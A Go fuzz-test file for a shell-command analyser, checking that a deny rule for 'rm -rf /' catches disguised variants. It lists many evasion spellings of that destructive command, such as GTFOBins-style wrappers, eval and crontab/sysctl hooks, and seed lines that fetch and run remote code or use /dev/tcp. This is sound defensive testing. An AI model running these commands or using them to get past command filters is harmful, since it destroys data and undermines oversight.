package shell

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

// Spellings of the parts of `rm -rf /` that a shell runs the same.
var (
	rmNames = []string{"rm", "'rm'", `"rm"`, `r\m`, "/bin/rm", "/usr/bin/rm", `\rm`, "$'rm'", `$'\x72m'`, "r''m", `"r"m`, "RM", "./../../bin/rm"}
	rmFlags = []string{"-rf", "-fr", "-r -f", "-f -r", "-Rf", "-r --force", "--recursive -f", "-rfv", "-v -r -f", "--force --recursive", "-f -R", "-r -i -f",
		"--rec --for", "--re --fo", "-r --forc", "--recu -f", "--no-pres -rf"}
	rmTargets        = []string{"/", "//", "/./", "'/'", `"/"`, "/bin/..", `\/`, "/.", "///", "-- /"}
	wrapperSpellings = []string{"sudo ", "sudo -u root ", "env ", "env A=1 ", "nice -n 5 ", "timeout 5 ", "command ", "nohup ", "time ", "doas ", "busybox ", "stdbuf -o0 ", "setsid ",
		"aa-exec ", "choom -n 0 ", "cpulimit -l 5 -- ", "logsave /dev/null ", "setarch x86_64 ", "sshpass -p x ", "ssh-agent ",
		"perf stat ", "pidstat -e ", "ip netns exec n ", "sudo --us root ", "timeout --sig KILL 5 ", "kubectl exec p -- ",
		"docker run --rm img ", "lxc exec c -- ", "xdotool exec ", "ksu -e "}
	prefixes = []string{"", "true; ", "x=1 && ", "echo hi | ", "cd /tmp && ", "false || ", "{ ", "( "}
	trailers = []string{"", " --no-preserve-root", " /tmp", " &", " 2>/dev/null"}
)

// variant builds a meaning-preserving spelling of `rm -rf /` from the
// fuzzer's choices.
func variant(choices []byte) string {
	next := func(n int) int {
		if len(choices) == 0 {
			return 0
		}
		c := int(choices[0])
		choices = choices[1:]
		return c % n
	}
	cmd := rmNames[next(len(rmNames))] + " " + rmFlags[next(len(rmFlags))] + " " + rmTargets[next(len(rmTargets))] + trailers[next(len(trailers))]
	for range next(4) {
		cmd = wrapperSpellings[next(len(wrapperSpellings))] + cmd
	}
	quoted := "'" + strings.ReplaceAll(cmd, "'", `'\''`) + "'"
	switch next(12) {
	case 1:
		cmd = "bash -c " + quoted
	case 2:
		cmd = "sh -c \"" + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "$", `\$`, "`", "\\`").Replace(cmd) + "\""
	case 3:
		cmd = "eval " + quoted
	case 4:
		cmd = "echo $(" + cmd + ")"
	// The forms of issue 29: the last stdin redirection, descriptors,
	// names made to run another program, programs that run commands.
	case 5:
		cmd = "bash <x.sh <<< " + quoted
	case 6:
		cmd = "bash /dev/fd/3 3<<< " + quoted
	case 7:
		cmd = "hash -p /bin/busybox x; x " + cmd
	case 8:
		cmd = "certbot renew --pre-hook " + quoted
	case 9:
		cmd = "sysctl kernel.core_pattern='|'" + quoted
	case 10:
		cmd = "crontab - <<< '* * * * * '" + quoted
	case 11:
		cmd = "socat - SYSTEM:" + quoted
	}
	prefix := prefixes[next(len(prefixes))]
	cmd = prefix + cmd
	switch prefix {
	case "{ ":
		cmd += "; }"
	case "( ":
		cmd += ")"
	}
	if next(2) == 1 {
		cmd = strings.ReplaceAll(cmd, " ", "\t")
	}
	return cmd
}

// FuzzShellRule: a command that normalises to a denied one is denied
// (matched Definitely, or the script is unresolved, which asks a human;
// never a plain miss).
func FuzzShellRule(f *testing.F) {
	for _, seed := range [][]byte{{}, {1, 2, 3}, {5, 7, 2, 1, 3, 0, 1}, {12, 11, 9, 4, 3, 2, 1, 4, 1, 1}, {3, 3, 3, 3, 3, 3, 3, 3, 3, 3, 3},
		// Issue 29: abbreviated options, GTFOBins' wrappers, and each of
		// the new forms around the line (choices: name, flags, target,
		// trailer, how many wrappers, which, the form, the prefix).
		{0, 12, 0, 0, 1, 14, 5}, {3, 13, 2, 1, 2, 20, 21, 6}, {1, 14, 9, 0, 1, 27, 7, 2}, {0, 15, 0, 0, 0, 8},
		{5, 16, 4, 2, 1, 30, 9, 1}, {0, 12, 0, 0, 0, 10}, {2, 13, 1, 0, 1, 25, 11, 3}, {0, 0, 0, 0, 3, 13, 22, 28, 5, 1, 1}} {
		f.Add(seed)
	}
	p, _, _ := CompilePattern("*rm -rf /")
	f.Fuzz(func(t *testing.T, choices []byte) {
		src := variant(choices)
		s := Analyze(src)
		if best(p, s) == Definite || len(s.Unresolved) > 0 {
			return
		}
		if best(p, s) == Possible {
			return // asks too
		}
		t.Fatalf("%q evades *rm -rf /: commands %v", src, s.Commands)
	})
}

// FuzzAnalyze: any input, no panic; every command has a name, or the
// script says what it could not resolve.
func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{"rm -rf /", "a | b && c; d &", "$(x) y", "bash -c 'eval \"$x\"'", "{a,b}{c,d}", "f() { g; }",
		"cat <<EOF\n$(rm -rf /)\nEOF", "x=$((1+2)) y", "find . -exec rm {} +", "'", "\x00", "${a[@]:1:2}", "[[ -f x ]]",
		// Issue 29's forms.
		"rm --rec --for /", "env --ign x", "hash -p /bin/rm ls; ls -rf /", "alias ls='rm -rf'\nls /", "BASH_CMDS[ls]=/bin/rm",
		"bash </dev/null <evil.sh", "bash /dev/fd/3 3<<<'x' 4<&3 3<&-", "source <(curl x)", "python3 <(x) 0<&5", "sh </dev/tcp/h/1",
		"printf -v 'a[$(x)]' 1", "declare -n r=\"$x\"", "[[ -v $x ]]", "certbot --pre-hook x", "socat - exec:x,pty",
		"sysctl 'kernel.core_pattern=|x'", "crontab - <<< '@reboot x'", "docker run --entrypoint x img", "kubectl -n x exec p -- y",
		"busctl --address=unixexec:path=x,argv1=y", "ip net e n x", "xdg-user-dir '}; x #'", "less '+!x' f", "gcc -wrapper x,y",
		"capsh == -- -c x", "ld-linux-x86-64.so.2 x", "printf x > package.json; npm i", "apt-get -o APT::Update::Pre-Invoke::=x update"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 4096 {
			return
		}
		s := Analyze(src)
		for _, c := range s.Commands {
			if c.Name == "" && len(s.Unresolved) == 0 {
				t.Fatalf("%q: a command without a name and nothing unresolved", src)
			}
			if !utf8.ValidString(c.String()) {
				t.Fatalf("%q: invalid UTF-8 in %q", src, c.String())
			}
		}
	})
}

// FuzzPlainWords: a command line the plain-words path takes is analysed
// exactly as the parser analyses it.
func FuzzPlainWords(f *testing.F) {
	for _, s := range []string{"go test ./...", "ls -la /srv", "rm -rf /", "sudo rm -rf /", "sh -c ls", "bash -c rm",
		"env A=1 rm -rf /", "a=b ls", "export a=b", "time ls", "xargs rm", "find . -exec rm", "%1", "ls @x :y ,z +w",
		"busybox rm -rf /", "eval ls", "then", "  ls   -l  ", "timeout 5 nice -n 5 rm -f /x", "watch -n 1 rm"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		// The input as it is, and as a line of words that mean something
		// to the analyser (wrappers, shells, reserved words), which
		// random bytes seldom spell.
		for _, line := range []string{src, plainVocabularyLine(src)} {
			if _, ok := plainWords(line); !ok {
				continue
			}
			got := Analyze(line)
			want := analyze(func(s *Script) { s.parse(line, nil, 0) })
			if !slices.EqualFunc(got.Commands, want.Commands, equalCommand) || !slices.Equal(got.Unresolved, want.Unresolved) ||
				!slices.EqualFunc(got.Code, want.Code, equalCode) {
				t.Fatalf("%q:\nplain  %+v %v %q\nparsed %+v %v %q", line, got.Commands, got.Code, got.Unresolved, want.Commands, want.Code, want.Unresolved)
			}
		}
	})
}

var plainVocabulary = strings.Fields("sudo doas env A=1 bash sh zsh -c -x -o eval xargs -I find -exec -execdir ; busybox timeout 5 nice -n nohup " +
	"stdbuf -o0 command exec builtin rm -rf -r -f --force --recursive / // /bin/.. -- time export declare let if then in " +
	"watch trap alias x=ls git push origin main . .. ./... %1 @x :y ,z +w " +
	"su sg script ssh host flock chrt taskset ionice -p -5 -S -u root -s -l -e -- - -O extglob --rcfile " +
	"alias.x=ls core.pager=ls status log tar -xf --to-command=ls -I find -exec -delete -name python3 -m perl " +
	"awk sed make --eval=x: SHELL=x unshare nsenter -t 1 -m strace -o gdb --args xargs -I -0 runuser doas " +
	"pkexec chroot setsid stdbuf -oL timeout 5 -k time -p -f %e nohup fish node php ruby go -exec systemd-run " +
	"hash --rec --for --sig aa-exec choom cpulimit logsave setarch x86_64 sshpass ssh-agent perf stat pidstat ip netns " +
	"kubectl docker run lxc xdotool ksu certbot --pre-hook socat exec:ls sysctl crontab less +!ls man -Hls gcc -wrapper capsh")

// plainVocabularyLine makes a line of plainVocabulary words from b, one
// byte a word; a byte past the vocabulary doubles the space before its
// word.
func plainVocabularyLine(b string) string {
	var line strings.Builder
	for i := 0; i < len(b); i++ {
		if i > 0 {
			line.WriteByte(' ')
		}
		if int(b[i]) >= 2*len(plainVocabulary) {
			line.WriteByte(' ')
		}
		line.WriteString(plainVocabulary[int(b[i])%len(plainVocabulary)])
	}
	return line.String()
}

func equalCode(a, b Code) bool {
	return a.Interpreter == b.Interpreter && a.Form == b.Form && a.Text == b.Text && a.Dynamic == b.Dynamic && slices.Equal(a.Via, b.Via)
}

func equalCommand(a, b Command) bool {
	return a.Name == b.Name && slices.Equal(a.Args, b.Args) && slices.Equal(a.Via, b.Via)
}

// fuzzWrapper is a wrapper for FuzzShellFailsClosed: option units it
// knows, and how it takes the command it runs.
type fuzzWrapper struct {
	name  string
	units []string // option units, each whole ("-u root", "--user=root")
	pre   string   // words before the command (the DURATION of timeout)
	// table tells which options the wrapper knows, so that a token the
	// fuzzer makes is put in only when it is unknown; nil for shells,
	// whose unknown letters are taken from unknownLetters.
	table          *getopt
	unknownLetters string
	// script: the command is one quoted script after the units and pre
	// (bash -c 'CMD'); post follows it.
	script bool
	post   string
	// joins: the wrapper joins its words for sh -c (watch): the command is
	// given as one quoted word, so its own quoting survives.
	joins bool
}

var fuzzWrappers = []fuzzWrapper{
	{name: "sudo", table: sudoOpts, units: []string{"-u root", "-E", "-H", "--user=root", "-n", "-g wheel", "-D /tmp", "A=1", "-k", "-P", "--preserve-env=PATH"}},
	{name: "env", table: envOpts, units: []string{"-i", "-u HOME", "--unset=HOME", "-C /tmp", "-0", "A=1", "B=2", "--chdir=/"}},
	{name: "timeout", table: wrappers["timeout"].opts, pre: "5", units: []string{"-s KILL", "-k 1", "--foreground", "-v", "--signal=TERM", "-p"}},
	{name: "nice", table: niceOpts, units: []string{"-n 5", "--adjustment=3", "-n5"}},
	{name: "nohup", table: wrappers["nohup"].opts},
	{name: "stdbuf", table: wrappers["stdbuf"].opts, units: []string{"-oL", "-e 0", "--input=0", "-o0"}},
	{name: "setsid", table: wrappers["setsid"].opts, units: []string{"-w", "-f", "-c", "--wait"}},
	{name: "ionice", table: wrappers["ionice"].opts, units: []string{"-c 3", "-c3", "-n 7", "-t", "--class=idle"}},
	{name: "chrt", table: chrtOpts, pre: "0", units: []string{"-o", "-b", "-v", "--other"}},
	{name: "taskset", table: wrappers["taskset"].opts, pre: "0x1", units: []string{"-a", "-c"}},
	{name: "time", table: wrappers["time"].opts, units: []string{"-p", "-v", "-o /tmp/t", "-f %e", "--append"}},
	{name: "doas", table: wrappers["doas"].opts, units: []string{"-u root", "-n"}},
	{name: "pkexec", table: wrappers["pkexec"].opts, units: []string{"--user root", "--keep-cwd"}},
	{name: "chroot", table: wrappers["chroot"].opts, pre: "/", units: []string{"--userspec=0:0", "--skip-chdir"}},
	{name: "nsenter", table: wrappers["nsenter"].opts, units: []string{"-t 1", "-m", "-u", "--net", "-a", "-F", "-S 0"}},
	{name: "unshare", table: wrappers["unshare"].opts, units: []string{"-r", "-m", "--mount", "-f", "--propagation private", "-n"}},
	{name: "xargs", table: xargsOpts, units: []string{"-0", "-n 1", "-P 4", "-r", "--max-args=2", "-t", "-a f"}},
	{name: "flock", table: flockOpts, pre: "/tmp/l", units: []string{"-x", "-n", "-w 5", "-E 1", "--verbose"}},
	{name: "watch", table: watchOpts, units: []string{"-n 1", "-d", "-t", "--interval=2"}, joins: true},
	{name: "strace", table: straceOpts, units: []string{"-f", "-o /dev/null", "-e trace=all", "-s 100", "-q"}},
	{name: "command", table: wrappers["command"].opts, units: []string{"-p"}},
	{name: "exec", table: wrappers["exec"].opts, units: []string{"-a x", "-c", "-l"}},
	{name: "systemd-run", table: wrappers["systemd-run"].opts, units: []string{"--user", "--scope", "-p Nice=5", "-q", "--wait"}},
	{name: "setpriv", table: wrappers["setpriv"].opts, units: []string{"--reuid=0", "--clear-groups", "--nnp"}},
	{name: "prlimit", table: wrappers["prlimit"].opts, units: []string{"--nofile=10", "--cpu=1"}},
	{name: "fakeroot", table: wrappers["fakeroot"].opts, units: []string{"-u"}},
	{name: "bash", unknownLetters: "gjqwyzAFGIJKLMNQRSUVWXYZ", script: true, units: []string{"-e", "-x", "-o pipefail", "-O extglob", "+O extglob", "--norc", "--rcfile /x", "-l", "-u", "+x"}},
	{name: "sh", unknownLetters: "dgjkrtwyzABDFGHJKLMNOPQRSTUWXYZ", script: true, units: []string{"-e", "-x", "-o errexit", "-u", "-f"}},
	{name: "zsh", unknownLetters: "", script: true, units: []string{"-f", "-e", "-o errexit", "--emacs"}},
	{name: "su", table: suOpts, script: true, units: []string{"-l", "-m", "-s /bin/sh", "-g wheel", "-P", "root"}},
	{name: "script", table: scriptOpts, script: true, post: " /dev/null", units: []string{"-q", "-e", "-f", "-a"}},
	// Issue 29: GTFOBins' wrappers.
	{name: "aa-exec", table: moreWrappers["aa-exec"].opts, units: []string{"-p unconfined", "-i", "--verbose"}},
	{name: "choom", table: moreWrappers["choom"].opts, units: []string{"-n 0", "--adjust=5"}},
	{name: "cpulimit", table: moreWrappers["cpulimit"].opts, units: []string{"-l 50", "-f", "--limit=5", "-z"}},
	{name: "logsave", table: moreWrappers["logsave"].opts, pre: "/dev/null", units: []string{"-a", "-s", "-v"}},
	{name: "setlock", table: moreWrappers["setlock"].opts, pre: "/tmp/l", units: []string{"-n", "-x"}},
	{name: "sshpass", table: moreWrappers["sshpass"].opts, units: []string{"-p x", "-e", "-v"}},
	{name: "ssh-agent", table: moreWrappers["ssh-agent"].opts, units: []string{"-c", "-t 5", "-a /tmp/s"}},
	{name: "openvt", table: moreWrappers["openvt"].opts, units: []string{"-c 1", "-s", "-w"}},
}

// unknownToken makes an option token from b that w does not know, or "".
func (w fuzzWrapper) unknownToken(b []byte) string {
	if len(b) == 0 {
		return ""
	}
	if w.table == nil {
		if w.unknownLetters == "" {
			return ""
		}
		return "-" + string(w.unknownLetters[int(b[0])%len(w.unknownLetters)])
	}
	var tok string
	if b[0]%2 == 0 {
		tok = "-" + string(rune('A'+int(b[0]/2)%58))
	} else {
		var name strings.Builder
		for _, c := range b[1:min(len(b), 9)] {
			name.WriteByte("abcdefghijklmnopqrstuvwxyz-"[int(c)%27])
		}
		tok = "--" + name.String()
	}
	if tok == "--" || tok == "-" || strings.ContainsAny(tok[1:], "[\\]^`") {
		return ""
	}
	if r := w.table.read([]field{{text: tok, src: tok}, {text: "x", src: "x"}}); r.problem == "" {
		return "" // a known option: not what this fuzz target is about
	}
	return tok
}

// FuzzShellFailsClosed: a command line built of wrappers, shells and
// their options around `rm -rf /`, with options a wrapper does not know
// put in anywhere, never resolves to a line that would be allowed: the
// deny of rm -rf / matches, or the line is unresolved or holds code
// (both ask).
func FuzzShellFailsClosed(f *testing.F) {
	for _, seed := range [][]byte{{}, {1}, {0, 1, 2, 3}, {5, 200, 7, 2, 1, 3, 9, 9}, {27, 3, 14, 1, 1, 4, 0, 2, 7},
		{30, 255, 0, 3, 3, 3, 3, 3, 3, 3, 3}, {29, 1, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15},
		// Issue 29: GTFOBins' wrappers, with options they know and do not.
		{0, 0, 31, 2, 0, 1, 1, 4, 65, 66}, {1, 1, 32, 1, 0, 33, 3, 1, 2, 1, 7}, {2, 2, 34, 1, 1, 35, 0, 36, 2, 0, 1, 1, 3, 88},
		{0, 0, 37, 3, 0, 1, 2, 1, 9, 97, 98, 99}, {1, 0, 38, 1, 2}} {
		f.Add(seed)
	}
	p, _, _ := CompilePattern("*rm -rf /")
	f.Fuzz(func(t *testing.T, b []byte) {
		next := func(n int) int {
			if len(b) == 0 || n == 0 {
				return 0
			}
			c := int(b[0])
			b = b[1:]
			return c % n
		}
		line := []string{"rm -rf /", "/bin/rm -fr //", "rm -r -f /"}[next(3)]
		for range 1 + next(3) {
			w := fuzzWrappers[next(len(fuzzWrappers))]
			var words []string
			for range next(4) {
				if len(w.units) > 0 {
					words = append(words, w.units[next(len(w.units))])
				}
			}
			if next(2) == 1 {
				n := 1 + next(9)
				k := min(len(b), n)
				tok := w.unknownToken(b[:k])
				b = b[k:]
				if tok != "" {
					at := next(len(words) + 1)
					words = append(words[:at], append([]string{tok}, words[at:]...)...)
				}
			}
			if w.name == "env" {
				// env reads NAME=VALUE after its options only: an option
				// after one is the command (env A=1 -i runs "-i").
				slices.SortStableFunc(words, func(a, b string) int {
					return strings.Compare(fmt.Sprint(!strings.HasPrefix(a, "-")), fmt.Sprint(!strings.HasPrefix(b, "-")))
				})
			}
			head := w.name
			if len(words) > 0 {
				head += " " + strings.Join(words, " ")
			}
			if w.pre != "" {
				head += " " + w.pre
			}
			quoted := "'" + strings.ReplaceAll(line, "'", `'\''`) + "'"
			switch {
			case w.script:
				line = head + " -c " + quoted + w.post
				continue
			case w.joins:
				line = head + " " + quoted
				continue
			}
			line = head + " " + line
		}
		s := Analyze(line)
		if best(p, s) != NoMatch || len(s.Unresolved) > 0 || len(s.Code) > 0 {
			return
		}
		t.Fatalf("%q resolves to commands that run unasked: %v", line, s.Commands)
	})
}
